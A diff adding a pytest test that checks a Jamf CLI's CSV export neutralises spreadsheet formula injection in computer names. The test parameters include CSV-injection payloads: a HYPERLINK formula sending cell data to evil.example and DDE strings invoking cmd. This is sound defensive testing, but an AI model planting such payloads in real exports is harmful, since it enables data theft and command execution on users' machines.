@@ -153,6 +153,22 @@ def test_csv_flattening_and_table_cells_carry_no_secret(cli):
     assert "<redacted>" in table.stdout and HIDDEN["top-level"] not in table.stdout
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
+                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_defused(cli, name):
+    """End users name their Macs: a name a spreadsheet would evaluate as a formula gets a leading ' in CSV
+    (OWASP's CSV-injection defence), while numbers such as -1 stay numbers and JSON keeps the name exactly."""
+    record = {"id": "1", "general": {"name": name, "site": {"id": "-1"}}, "hardware": {"serialNumber": "C02AAAAAAAA1"}}
+    against(cli, HostileJamf([record]))
+    run = cli.run("computer", "list", "-o", "csv", "--fields", "id,general.name,general.site.id", env=ENV)
+    assert run.exit_code == 0, run.stderr
+    (header, row) = list(csv.reader(io.StringIO(run.stdout, newline="")))
+    cells = dict(zip(header, row))
+    assert cells["general.name"] == "'" + name and cells["general.site.id"] == "-1"
+    exact = cli.run("computer", "list", "-o", "json", "--fields", "general.name", env=ENV)
+    assert json.loads(exact.stdout)[0]["general"]["name"] == name
+
+
 def test_secrets_deeper_than_the_walk_are_withheld_not_printed(cli):
     """Nesting past the redaction walk's depth limit: the subtree is withheld, the secret never shown."""
     record = {"id": "1", "general": {"name": "deep"}, "extra": nest(450, {"password": "hunter2-bottom", "note": "x"})}
